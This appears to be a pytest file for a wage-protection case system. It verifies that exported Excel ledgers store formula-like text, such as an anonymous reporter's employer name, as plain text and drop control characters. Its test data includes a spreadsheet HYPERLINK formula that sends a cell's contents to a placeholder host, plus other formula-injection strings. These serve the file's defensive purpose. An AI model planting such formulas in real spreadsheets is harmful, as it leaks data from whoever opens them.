"""Every spreadsheet the product writes keeps text as text (issue 10, finding 1): an anonymous
reporter's `=HYPERLINK(...)` must not become a live formula in a bureau's ledger, and a control
character must not break the ledger for everyone."""

import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests import factories
from wageguard.core.xlsx import Ledger, spreadsheet_safe
from wageguard.org.bootstrap import create_agencies
from wageguard.org.rules import Role

ATTACK = '=HYPERLINK("http://x/?"&A1,"click")'
STARTS = [ATTACK, "+1+2", "-3+4", "@SUM(1,2)", "\t=1", "\r=1"]


def _read(data: bytes, title: str):
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    book = load_workbook(io.BytesIO(data))
    return sheet_xml, book[title]


def test_a_text_that_looks_like_a_formula_is_written_as_text():
    ledger = Ledger("台账", [("名称", 20)] * len(STARTS))
    ledger.append(STARTS)
    sheet_xml, sheet = _read(ledger.save().read(), "台账")
    assert b"<f>" not in sheet_xml
    cells = sheet[2]
    assert [c.data_type for c in cells] == ["s"] * len(STARTS)
    assert [c.value for c in cells] == STARTS


def test_control_characters_are_dropped_not_fatal():
    ledger = Ledger("台账", [("名称", 20), ("金额", 10)])
    ledger.append(["成都\x0b鑫达\x1f建筑\x00公司", 12])
    _xml, sheet = _read(ledger.save().read(), "台账")
    assert [c.value for c in sheet[2]] == ["成都鑫达建筑公司", 12]


def test_numbers_and_ordinary_text_pass_unchanged():
    assert spreadsheet_safe("成都-建筑公司") == "成都-建筑公司"
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe("-5") == "'-5"
    assert spreadsheet_safe(ATTACK) == "'" + ATTACK


@pytest.mark.django_db
def test_an_anonymous_reporters_formula_stays_text_in_the_clue_ledger(client):
    create_agencies("51")
    factories.clue_intake(factories.clue_submission(employer_name=ATTACK, project_name="@SUM(1)"))
    client.force_login(factories.user("insp", Role.INSPECTOR, "510107"))
    response = client.get("/clues/export.xlsx")
    assert response.status_code == 200
    sheet_xml, sheet = _read(b"".join(response.streaming_content), "线索台账")
    assert b"<f>" not in sheet_xml
    values = [c.value for c in sheet[2]]
    assert ATTACK in values and "@SUM(1)" in values
    assert all(c.data_type != "f" for c in sheet[2])


@pytest.mark.django_db
def test_an_employer_name_formula_stays_text_in_the_case_ledger(client):
    create_agencies("51")
    inspector = factories.user("insp", Role.INSPECTOR, "510107")
    factories.case(inspector, employer_name=ATTACK)
    client.force_login(inspector)
    response = client.get("/cases/export.xlsx")
    assert response.status_code == 200
    sheet_xml, sheet = _read(b"".join(response.streaming_content), "案件台账")
    assert b"<f>" not in sheet_xml
    assert ATTACK in [c.value for c in sheet[2]]


def test_a_ledger_of_several_sheets_and_percentages():
    ledger = Ledger("按辖区", [("辖区", 20), ("落实率", 10)])
    ledger.append(["武侯区", ledger.percent(Decimal("85.3"))])
    ledger.add_sheet("按制度", [("制度", 20), ("落实率", 10)])
    ledger.append(["实名制管理", ledger.percent(None)])
    book = load_workbook(io.BytesIO(ledger.save().read()))
    assert book.sheetnames == ["按辖区", "按制度"] and ledger.rows == 2
    cell = book["按辖区"]["B2"]
    assert cell.value == pytest.approx(0.853) and cell.number_format == "0.0%"
    assert [c.value for c in book["按制度"][1]] == ["制度", "落实率"]
    assert book["按制度"]["B2"].value is None
